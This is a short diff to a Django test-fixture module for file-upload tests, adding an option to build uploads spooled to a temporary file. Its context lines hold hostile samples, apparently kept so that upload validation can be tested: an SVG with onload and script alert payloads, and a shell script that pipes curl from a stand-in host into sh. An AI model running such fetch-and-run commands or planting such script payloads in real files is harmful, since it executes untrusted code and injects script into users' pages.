@@ -5,7 +5,7 @@ import struct
 import zipfile
 import zlib
 
-from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
 
 
 def pdf(extra=b""):
@@ -44,5 +44,12 @@ SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(
 SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
 
 
-def upload(name, data, content_type="application/octet-stream"):
-    return SimpleUploadedFile(name, data, content_type=content_type)
+def upload(name, data, content_type="application/octet-stream", *, spooled=False):
+    """An upload as Django hands it to a view: in memory, or (spooled) in a temporary file on
+    disk, as for a request over FILE_UPLOAD_MAX_MEMORY_SIZE."""
+    if not spooled:
+        return SimpleUploadedFile(name, data, content_type=content_type)
+    file = TemporaryUploadedFile(name, content_type, len(data), None)
+    file.write(data)
+    file.seek(0)
+    return file
